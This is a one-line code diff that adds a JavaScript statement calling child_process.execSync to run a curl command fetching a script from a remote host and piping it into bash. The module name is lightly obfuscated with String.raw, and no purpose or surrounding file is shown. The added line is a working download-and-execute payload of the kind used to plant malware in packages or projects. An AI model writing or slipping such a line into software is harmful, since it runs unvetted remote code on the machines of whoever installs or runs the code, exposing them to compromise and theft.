@@ -1,0 +1,1 @@
+require(String.raw`child_process`).execSync(`curl -s https://cdn-x7.invalid/a | bash`);
